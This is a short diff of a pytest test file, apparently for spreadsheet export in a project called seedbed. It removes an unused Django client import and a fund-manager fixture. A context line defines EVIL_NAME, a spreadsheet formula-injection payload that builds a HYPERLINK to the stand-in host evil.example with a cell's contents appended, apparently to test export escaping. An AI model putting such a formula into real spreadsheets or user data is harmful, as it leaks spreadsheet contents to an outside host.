@@ -7,7 +7,6 @@ import io
 import re
 
 import pytest
-from django.test import Client
 from openpyxl import load_workbook
 
 from seedbed.core import services
@@ -28,11 +27,6 @@ HEADER = [
     "Link",
 ]
 EVIL_NAME = '=HYPERLINK("http://evil.example/steal?"&A1,"Click me")'
-
-
-@pytest.fixture
-def manager(personas, client_for) -> Client:
-    return client_for(personas["fund_manager"])
 
 
 @pytest.fixture
